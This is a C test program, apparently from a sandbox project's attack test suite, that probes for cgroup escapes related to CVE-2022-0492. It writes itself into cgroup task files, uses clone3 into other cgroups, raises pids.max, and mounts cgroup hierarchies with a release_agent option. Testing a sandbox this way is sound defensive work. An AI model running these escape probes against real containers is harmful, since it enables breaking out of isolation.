/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * cgroups HOW [ARG...]: tries to leave the control group or to change what it limits (CVE-2022-0492 and relatives).
 *
 *   walk            every control group file in sight: by the mounts, roots, directories and descriptors of every process
 *   look            the same, but files are only opened: for root, for whom the machine's own groups may be in sight
 *   mount HOW       first mounts each hierarchy and walks (or looks at) that
 *   nested HOW...   the same in a user, mount and cgroup namespace of its own
 *   receive SOCKET HOW    the descriptors that an accomplice sends
 *   enter TASKS     writes itself into that file and waits for the end of standard input: the positive control
 *
 * A line for each success: "mounted OPTIONS", "opened FILE", "wrote FILE", "made DIRECTORY", "LEFT HOW: BEFORE -> AFTER",
 * and at the end "tried N files, N directories, N mounts, N descriptors".
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/sched.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include "tests/attacks/nest.h"

#define CGROUP	0x27e0eb
#define CGROUP2 0x63677270
#define DEEPEST 12

static struct {
	unsigned files, directories, mounts, descriptors;
} * tried; /* shared with the children */
static bool careful;

static void tell(const char *format, ...)
{
	va_list words;

	va_start(words, format);
	vprintf(format, words);
	va_end(words);
	putchar('\n');
	fflush(stdout);
}

static void read_file(const char *path, char *text, size_t size)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd >= 0 ? read(fd, text, size - 1) : -1;

	text[n > 0 ? n : 0] = '\0';
	if (fd >= 0)
		close(fd);
}

/* Where this process is, in all hierarchies, as one line. */
static void where(char *text, size_t size)
{
	read_file("/proc/self/cgroup", text, size);
	for (char *at = text; *at != '\0'; at++)
		if (*at == '\n')
			*at = ' ';
}

static bool is_cgroup(int fd)
{
	struct statfs fs;

	return fstatfs(fd, &fs) == 0 && (fs.f_type == CGROUP || fs.f_type == CGROUP2);
}

static bool is_cgroup2(int fd)
{
	struct statfs fs;

	return fstatfs(fd, &fs) == 0 && fs.f_type == CGROUP2;
}

static void left(const char *how, const char *path, const char *before)
{
	char after[4096];

	where(after, sizeof(after));
	if (strcmp(before, after) != 0)
		tell("LEFT %s %s: %s-> %s", how, path, before, after);
}

/* Writes this process into the file, in a child that may go astray. */
static void enter(int fd, const char *path)
{
	char before[4096], number[16];

	fflush(stdout);
	if (fork() == 0) {
		where(before, sizeof(before));
		snprintf(number, sizeof(number), "%d", getpid());
		if (write(fd, "0", 1) == 1 || write(fd, number, strlen(number)) > 0) {
			tell("wrote %s", path);
			left("by", path, before);
		}
		_exit(0);
	}
	wait(NULL);
}

/* A file that can be opened is written: what puts us somewhere with us, a limit with "max", the rest with what it says.
 */
static void use(int fd, const char *path, const char *name)
{
	char text[4096];

	tell("opened %s", path);
	if (careful || strcmp(name, "cgroup.kill") == 0)
		return;
	if (strcmp(name, "tasks") == 0 || strcmp(name, "cgroup.procs") == 0 || strcmp(name, "cgroup.threads") == 0) {
		enter(fd, path);
		return;
	}
	read_file(path, text, sizeof(text));
	if (strcmp(name, "pids.max") == 0)
		strcpy(text, "max\n");
	if (write(fd, text[0] != '\0' ? text : "\n", text[0] != '\0' ? strlen(text) : 1) > 0)
		tell("wrote %s", path);
}

static void clone_into(int directory, const char *path)
{
	struct clone_args args = { .flags = CLONE_INTO_CGROUP, .exit_signal = SIGCHLD, .cgroup = (unsigned)directory };
	char before[4096];
	long pid;

	where(before, sizeof(before));
	pid = syscall(SYS_clone3, &args, sizeof(args));
	if (pid == 0) {
		left("clone3", path, before);
		_exit(0);
	}
	if (pid > 0)
		waitpid((pid_t)pid, NULL, 0);
}

static void walk(int directory, const char *path, int depth);

static void walk_entry(int directory, const char *path, const struct dirent *entry, int depth)
{
	char name[4096];
	int fd;

	snprintf(name, sizeof(name), "%s/%s", path, entry->d_name);
	if (entry->d_type == DT_DIR) {
		fd = openat(directory, entry->d_name, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		if (fd >= 0 && depth < DEEPEST)
			walk(fd, name, depth + 1);
	} else {
		tried->files++;
		fd = openat(directory, entry->d_name, O_WRONLY | O_CLOEXEC);
		if (fd >= 0)
			use(fd, name, entry->d_name);
	}
	if (fd >= 0)
		close(fd);
}

static void walk(int directory, const char *path, int depth)
{
	static const char child[] = "nsbox-attack";
	DIR *list = fdopendir(dup(directory));
	const struct dirent *entry;

	tried->directories++;
	if (!careful && mkdirat(directory, child, 0700) == 0) {
		tell("made %s/%s", path, child);
		unlinkat(directory, child, AT_REMOVEDIR);
	}
	if (!careful && is_cgroup2(directory))
		clone_into(directory, path);
	while (list != NULL && (entry = readdir(list)) != NULL)
		if (strcmp(entry->d_name, ".") != 0 && strcmp(entry->d_name, "..") != 0)
			walk_entry(directory, path, entry, depth);
	if (list != NULL)
		closedir(list);
}

/* A directory that cannot be read: its files have known names, and clone3(2) takes an O_PATH descriptor. */
static void probe(int directory, const char *path)
{
	static const char *const names[] = {
		"tasks",	 "cgroup.procs",	 "cgroup.threads", "cgroup.subtree_control",
		"cgroup.kill",	 "cgroup.freeze",	 "cgroup.type",	   "notify_on_release",
		"release_agent", "cgroup.event_control", "pids.max"
	};

	tried->directories++;
	if (!careful && is_cgroup2(directory))
		clone_into(directory, path);
	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		int fd = openat(directory, names[i], O_WRONLY | O_CLOEXEC);

		tried->files++;
		if (fd < 0)
			continue;
		use(fd, path, names[i]);
		close(fd);
	}
}

static void walk_path(const char *path)
{
	int fd = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	if (fd < 0) {
		fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
		if (fd >= 0 && is_cgroup(fd)) {
			tried->mounts++;
			probe(fd, path);
		}
		if (fd >= 0)
			close(fd);
		return;
	}
	if (fd >= 0 && is_cgroup(fd)) {
		tried->mounts++;
		walk(fd, path, 0);
	}
	if (fd >= 0)
		close(fd);
}

/* The mounts of one process, by its root. */
static void walk_mounts(const char *pid)
{
	char path[8192], line[8192], point[4096];
	FILE *in;

	snprintf(path, sizeof(path), "/proc/%s/mountinfo", pid);
	in = fopen(path, "re");
	while (in != NULL && fgets(line, sizeof(line), in) != NULL) {
		if (strstr(line, " - cgroup") == NULL || sscanf(line, "%*s %*s %*s %*s %4095s", point) != 1)
			continue;
		snprintf(path, sizeof(path), "/proc/%s/root%s", pid, point);
		walk_path(path);
	}
	if (in != NULL)
		fclose(in);
	/* not mounted for us, but perhaps for it, or below its mounts */
	static const char *const links[] = { "root", "cwd" };
	for (size_t i = 0; i < 2; i++) {
		snprintf(path, sizeof(path), "/proc/%s/%s/sys/fs/cgroup", pid, links[i]);
		walk_path(path);
		snprintf(path, sizeof(path), "/proc/%s/%s", pid, links[i]);
		walk_path(path);
	}
}

static void use_descriptor(const char *path)
{
	struct stat st;
	int any = open(path, O_PATH | O_CLOEXEC), fd = -1;

	tried->descriptors++;
	if (any < 0 || fstat(any, &st) < 0 || !is_cgroup(any)) {
		if (any >= 0)
			close(any);
		return;
	}
	if (S_ISDIR(st.st_mode)) {
		walk_path(path);
	} else {
		char target[4096] = "";

		tried->files++;
		if (readlink(path, target, sizeof(target) - 1) > 0 && (fd = open(path, O_WRONLY | O_CLOEXEC)) >= 0)
			use(fd, path, strrchr(target, '/') != NULL ? strrchr(target, '/') + 1 : target);
	}
	close(any);
	if (fd >= 0)
		close(fd);
}

static void walk_descriptors(const char *pid)
{
	char path[512];
	const struct dirent *entry;
	DIR *list;

	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	list = opendir(path);
	while (list != NULL && (entry = readdir(list)) != NULL) {
		if (!isdigit((unsigned char)entry->d_name[0]))
			continue;
		snprintf(path, sizeof(path), "/proc/%s/fd/%s", pid, entry->d_name);
		use_descriptor(path);
	}
	if (list != NULL)
		closedir(list);
}

static void walk_everything(void)
{
	DIR *proc = opendir("/proc");
	const struct dirent *entry;

	while (proc != NULL && (entry = readdir(proc)) != NULL) {
		if (!isdigit((unsigned char)entry->d_name[0]))
			continue;
		walk_mounts(entry->d_name);
		walk_descriptors(entry->d_name);
	}
	if (proc != NULL)
		closedir(proc);
}

static sigjmp_buf too_long;

static void give_up(int number)
{
	(void)number;
	siglongjmp(too_long, 1);
}

/* mount(2) of a version 1 hierarchy that somebody else has just unmounted begins again and again until that is gone, also
 * behind a signal's handler: so the handler jumps. "stuck" is no way out. */
static int mount_in_time(const char *place, const char *type, const char *options)
{
	int r = -1;

	signal(SIGALRM, give_up);
	if (sigsetjmp(too_long, 1) == 0) {
		alarm(10);
		r = mount("none", place, type, 0, options);
	} else {
		tell("stuck %s %s", type, options);
	}
	alarm(0);
	return r;
}

/* One try: the mount is there as long as it is walked. */
static void try_mount(const char *place, const char *type, const char *options)
{
	if (mount_in_time(place, type, options) < 0)
		return;
	tell("mounted %s %s", type, options);
	walk_path(place);
	/* remounting is the other way to say release_agent= */
	if (!careful && strcmp(type, "cgroup") == 0 &&
	    mount("none", place, NULL, MS_REMOUNT, "release_agent=/tmp/x") == 0)
		tell("wrote %s by remount", options);
	umount2(place, MNT_DETACH);
}

static void mount_everything(void)
{
	char place[] = "/tmp/nsbox-attack.XXXXXX", line[256], name[64], options[160];
	FILE *in = fopen("/proc/cgroups", "re");

	if (mkdtemp(place) == NULL)
		return;
	while (in != NULL && fgets(line, sizeof(line), in) != NULL) {
		if (sscanf(line, "%63s", name) != 1 || name[0] == '#')
			continue;
		try_mount(place, "cgroup", name);
		snprintf(options, sizeof(options), "%s,release_agent=/tmp/x", name);
		if (!careful)
			try_mount(place, "cgroup", options);
	}
	if (in != NULL)
		fclose(in);
	try_mount(place, "cgroup", "none,name=systemd");
	try_mount(place, "cgroup2", "");
	if (!careful) {
		try_mount(place, "cgroup", "none,name=nsbox-attack");
		try_mount(place, "cgroup", "none,name=nsbox-attack,release_agent=/tmp/x");
		try_mount(place, "cgroup", "all");
		try_mount(place, "cgroup2", "nsdelegate,memory_recursiveprot");
	}
	rmdir(place);
}

static int receive(const char *path)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	char byte, room[CMSG_SPACE(16 * sizeof(int))];
	struct iovec data = { &byte, 1 };
	struct msghdr message = {
		.msg_iov = &data, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof(room)
	};
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	snprintf(address.sun_path, sizeof(address.sun_path), "%s", path);
	if (connect(fd, (struct sockaddr *)&address, sizeof(address)) < 0 || recvmsg(fd, &message, 0) != 1 ||
	    CMSG_FIRSTHDR(&message) == NULL) {
		tell("failed %s: %s", path, strerror(errno));
		return -1;
	}
	/* what came open is written as it is: whose right counts, that of who opened it or of who writes? */
	struct cmsghdr *part = CMSG_FIRSTHDR(&message);
	for (size_t i = 0; i < (part->cmsg_len - CMSG_LEN(0)) / sizeof(int); i++) {
		int got = ((int *)CMSG_DATA(part))[i];
		char name[64];
		struct stat st;

		snprintf(name, sizeof(name), "received %d", got);
		if (fstat(got, &st) == 0 && S_ISREG(st.st_mode) && (fcntl(got, F_GETFL) & O_ACCMODE) != O_RDONLY)
			enter(got, name);
	}
	return 0;
}

static int stay_in(const char *tasks)
{
	char byte;
	int fd = open(tasks, O_WRONLY | O_CLOEXEC);

	if (fd < 0 || write(fd, "0", 1) != 1) {
		tell("failed %s: %s", tasks, strerror(errno));
		return 1;
	}
	tell("entered");
	while (read(0, &byte, 1) > 0)
		;
	return 0;
}

int main(int argc, char **argv)
{
	int at = 1;

	tried = mmap(NULL, sizeof(*tried), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	for (; at < argc; at++) {
		careful = strcmp(argv[argc - 1], "look") == 0;
		if (strcmp(argv[at], "nested") == 0 && nest(CLONE_NEWCGROUP) < 0) {
			tell("failed nested: %s", strerror(errno));
			return 1;
		}
		if (strcmp(argv[at], "mount") == 0)
			mount_everything();
		if (strcmp(argv[at], "enter") == 0)
			return stay_in(argv[at + 1]);
		if (strcmp(argv[at], "receive") == 0 && receive(argv[++at]) < 0)
			return 1;
		if (strcmp(argv[at], "walk") == 0 || strcmp(argv[at], "look") == 0)
			walk_everything();
	}
	tell("tried %u files, %u directories, %u mounts, %u descriptors", tried->files, tried->directories,
	     tried->mounts, tried->descriptors);
	return 0;
}
